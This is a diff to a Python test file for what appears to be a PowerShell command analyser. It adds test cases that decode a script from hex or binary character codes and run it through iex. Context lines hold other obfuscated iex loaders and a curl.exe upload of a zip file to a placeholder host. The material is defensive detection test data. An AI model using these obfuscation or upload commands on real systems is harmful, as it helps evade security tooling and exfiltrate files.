@@ -226,6 +226,12 @@ def test_pipes_are_followed() -> None:
         (f"$h='{SCRIPT.encode().hex()}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}};iex(-join$h)", None),
         (f"([regex]::Matches('{SCRIPT[::-1]}','.','RightToLeft')|%{{$_.Value}})-join''|iex", None),
         (f"('{SCRIPT.replace('c', 'QQ')}' -creplace 'QQ',[char]99)|iex", "replacing"),
+        (f"(({','.join(hex(ord(each)) for each in SCRIPT)})|%{{[convert]::ToChar($_)}})-join''|iex", None),
+        (f"('{' '.join(f'{ord(each):x}' for each in SCRIPT)}'-split' '|%{{[char][byte]\"0x$_\"}})-join''|iex", None),
+        (
+            f"('{' '.join(f'{ord(each):b}' for each in SCRIPT)}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
+            None,
+        ),
         ("$a,$b='curl','.exe'; & ($a+$b) -T C:\\a.zip http://h/", "string building"),
         ("$p='-T','C:\\a.zip','http://h/'; curl.exe @p", None),
         (f"$x={{ {SCRIPT} }}; & $x", None),
